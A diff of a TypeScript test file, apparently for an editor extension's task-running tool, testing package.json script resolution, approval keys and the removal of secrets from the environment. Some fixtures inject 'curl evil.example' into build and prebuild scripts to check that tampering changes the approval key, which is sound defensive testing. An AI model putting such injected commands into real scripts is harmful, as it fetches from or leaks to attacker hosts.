@@ -4,12 +4,8 @@ import type { JsonObject } from '../../../src/core/extraction/json.ts';
 import { exactKey } from '../../../src/core/toolcalls/approval.ts';
 import { boundTool, type Tool, type ToolContext, type ToolOutcome } from '../../../src/core/toolcalls/tool.ts';
 import { secretVariables } from '../../../src/core/toolcalls/writing/environment.ts';
-import {
-  placeholdersIn,
-  planText,
-  scriptsBehind,
-  type TaskStep,
-} from '../../../src/core/toolcalls/writing/taskPlan.ts';
+import { foldersIn, mentionsScripts, scriptsBehind } from '../../../src/core/toolcalls/writing/packageScripts.ts';
+import { placeholdersIn, planText, type TaskStep } from '../../../src/core/toolcalls/writing/taskPlan.ts';
 import { runTaskTool } from '../../../src/host/tools/writing/runTask.ts';
 import { Redactor } from '../../../src/host/redaction.ts';
 import { fake, ProcessExecution, ShellExecution, Task, Uri } from '../../fakes/fakeVscode.ts';
@@ -23,12 +19,14 @@ function step(over: Partial<TaskStep> = {}): TaskStep {
     runs: { type: 'line', line: 'make', args: [] },
     variables: {},
     isBackground: false,
+    after: [],
+    isSequence: false,
     ...over,
   };
 }
 
 function textOf(over: Partial<TaskStep>): string {
-  return planText({ steps: [step(over)], filledIn: [], settings: [] });
+  return planText({ steps: [step(over)], isMadeAnew: true, filledIn: [], settings: [] });
 }
 
 describe('a plan in words', () => {
@@ -63,7 +61,9 @@ describe('a plan in words', () => {
     expect(text).toContain('code of an extension: what it runs cannot be shown');
     expect(text).toContain('"type":"bake"');
     expect(text).toContain('cannot be taken out');
-    expect(textOf({ scripts: 'unreadable' })).toContain('what the script runs is not known');
+    const packages = [{ file: 'package.json', scripts: 'unreadable' as const }];
+    expect(textOf({ packages })).toContain('package.json cannot be read: what the script runs is not known');
+    expect(textOf({ mayRunOthers: true })).toContain('may also run other scripts of package.json');
   });
 
   it('finds what the editor fills in', () => {
@@ -83,15 +83,69 @@ describe('scripts of package.json', () => {
     prepare: 'husky',
   };
 
+  const namesIn = (line: string, all: Readonly<Record<string, string>> = scripts): string[] =>
+    scriptsBehind(all, line).scripts.map(({ name }) => name);
+
   it('are those that run before and after, and those they name', () => {
-    const names = scriptsBehind(scripts, 'build').map(({ name }) => name);
-    expect(names).toEqual(['prebuild', 'build', 'compile', 'postcompile', 'lint:a']);
+    expect(namesIn('npm run build')).toEqual(['prebuild', 'build', 'compile', 'postcompile', 'lint:a']);
+    expect(namesIn('npm run other>/dev/null')).toEqual(['other']);
+    expect(namesIn('concurrently "npm:other" npm:compile')).toEqual(['other', 'compile', 'postcompile']);
   });
 
   it('are those of an installation too, and end where they name each other', () => {
-    expect(scriptsBehind(scripts, 'install').map(({ name }) => name)).toEqual(['postinstall', 'prepare']);
-    expect(scriptsBehind({ a: 'npm run b', b: 'npm run a' }, 'a')).toHaveLength(2);
-    expect(scriptsBehind(scripts, 'toString')).toEqual([]);
+    for (const line of ['npm install', 'npm ci --silent', 'yarn', 'pnpm -s i', 'bun add zod']) {
+      expect(namesIn(line), line).toEqual(['postinstall', 'prepare']);
+      expect(scriptsBehind(scripts, line).mayRunOthers, line).toBe(true);
+    }
+    expect(namesIn('npm run a', { a: 'npm run b', b: 'npm run a' })).toEqual(['a', 'b']);
+    expect(namesIn('npm run toString')).toEqual([]);
+  });
+
+  it('have short names', () => {
+    const all = { test: 'vitest', start: 'node .', stop: 'kill', pretest: 'tsc' };
+    expect(namesIn('npm t', all)).toEqual(['pretest', 'test']);
+    expect(namesIn('cd x && npm restart', all)).toEqual(['stop', 'start']);
+  });
+
+  it.each([
+    ['npm run build -- --watch', { build: 'tsc' }, false],
+    ['npm run build', { build: 'npm run compile', compile: 'tsc' }, false],
+    ['npm run build', { build: 'concurrently "npm:*"' }, true],
+    ['npm run build -w web', { build: 'tsc' }, true],
+    ['npm run $WHAT', { build: 'tsc' }, true],
+    ['make *', { build: 'tsc' }, false],
+  ])('may be others than those found in %s %o: %s', (line, all, mayRunOthers) => {
+    expect(scriptsBehind(all, line).mayRunOthers).toBe(mayRunOthers);
+  });
+
+  it.each(['npm t', 'C:\\node\\npm.cmd run x', './node_modules/.bin/run-s a', 'node --run b', 'yarn;', '(bun x)'])(
+    'are mentioned by %s',
+    (line) => expect(mentionsScripts(line)).toBe(true),
+  );
+
+  it('are not mentioned by words that look alike', () => {
+    expect(mentionsScripts('bundle install; my-npm x; make nxt')).toBe(false);
+  });
+
+  it('are those of the folder that is gone to', () => {
+    expect(foldersIn('cd "web" && npm --prefix=../a run x; pnpm -C b y; cd $HOME')).toEqual(['web', '../a', 'b']);
+  });
+
+  it('are found in a text of any length in no time', () => {
+    const hostile = [
+      'npm '.repeat(50_000),
+      `npm ${'-a '.repeat(50_000)}`,
+      `yarn${' '.repeat(100_000)}x`,
+      'cd '.repeat(50_000),
+    ];
+    const startedAt = performance.now();
+    for (const text of hostile) {
+      scriptsBehind({ a: text }, `npm run a ${text}`);
+      foldersIn(text);
+    }
+    const many = Array.from({ length: 30_000 }, (_, index): [string, string] => [`a${index}`, 'npm run "a*"']);
+    expect(scriptsBehind(Object.fromEntries(many), 'npm run a1').mayRunOthers).toBe(true);
+    expect(performance.now() - startedAt).toBeLessThan(5_000);
   });
 });
 
@@ -167,6 +221,8 @@ describe('running a task', () => {
   beforeEach(() => {
     fake.reset();
     fake.folders = [folder];
+    vi.unstubAllEnvs();
+    for (const name of ['AI_GATEWAY_API_KEY', 'VERCEL_OIDC_TOKEN', 'TASKS_TEST_COPY']) vi.stubEnv(name, undefined);
   });
 
   it('shows and runs the task that was found, not one that tasks.json calls by the same words', async () => {
@@ -184,8 +240,9 @@ describe('running a task', () => {
   });
 
   it('shows and runs those it depends on, each once, in order and before it', async () => {
+    vi.stubEnv('AI_GATEWAY_API_KEY', KEY);
     define(
-      { label: 'all', type: 'shell', command: 'echo all', dependsOn: ['a', 'b'] },
+      { label: 'all', type: 'shell', command: 'echo all', dependsOn: ['a', 'b'], dependsOrder: 'sequence' },
       { label: 'a', type: 'shell', command: 'echo a', dependsOn: 'base' },
       { label: 'b', type: 'shell', command: 'echo b', dependsOn: ['base', { type: 'npm', script: 'lint' }] },
     );
@@ -208,6 +265,7 @@ describe('running a task', () => {
   });
 
   it('runs nothing after one that failed', async () => {
+    vi.stubEnv('AI_GATEWAY_API_KEY', KEY);
     define({ label: 'all', dependsOn: ['a'] });
     fake.tasks = [shellTask('a', 'false'), new Task({ type: '$composite' }, folder, 'all', 'Workspace')];
     fake.exitCodes.set('a', 2);
@@ -251,12 +309,12 @@ describe('running a task', () => {
     packageJson({ build: 'tsc', unused: 'echo' });
     const first = await key();
     packageJson({ build: 'tsc', unused: 'echo other' });
-    expect(await key()).toBe(first);
+    expect(await key()).not.toBe(first);
     packageJson({ build: 'tsc; curl evil.example' });
     expect(await key()).not.toBe(first);
     packageJson({ build: 'tsc', prebuild: 'curl evil.example', unused: 'echo' });
     expect(await key()).not.toBe(first);
-    packageJson({ build: 'tsc' });
+    packageJson({ build: 'tsc', unused: 'echo' });
     expect(await key()).toBe(first);
     define({ type: 'npm', script: 'build', dependsOn: 'before' });
     const withBefore = await key();
@@ -326,7 +384,7 @@ describe('the environment of a task', () => {
     expect(executed()).toEqual(['make', ['make', 'all']]);
     expect(await shown('build')).toContain('with MODE="test"');
     expect(await shown('build')).not.toContain('MINE');
-    expect(await shown('build')).toContain('with the gateway’s key and token emptied');
+    expect(await shown('build')).toContain('made anew without the gateway’s key and token');
   });
 
   it('is left alone where there is neither', async () => {
@@ -334,7 +392,8 @@ describe('the environment of a task', () => {
     vi.stubEnv('TASKS_TEST_COPY', undefined);
     fake.tasks = [shellTask('build', 'make')];
     await run(await bind('build'));
-    expect(fake.executedTasks.map(environmentOf)).toEqual([{}]);
+    expect(fake.executedTasks).toEqual(fake.tasks);
+    expect(await shown('build')).toContain('has neither the gateway’s key nor its token');
   });
 
   it.each(['make ${env:AI_GATEWAY_API_KEY}', 'make ${config:app.key}'])('is not asked for by %s', async (command) => {
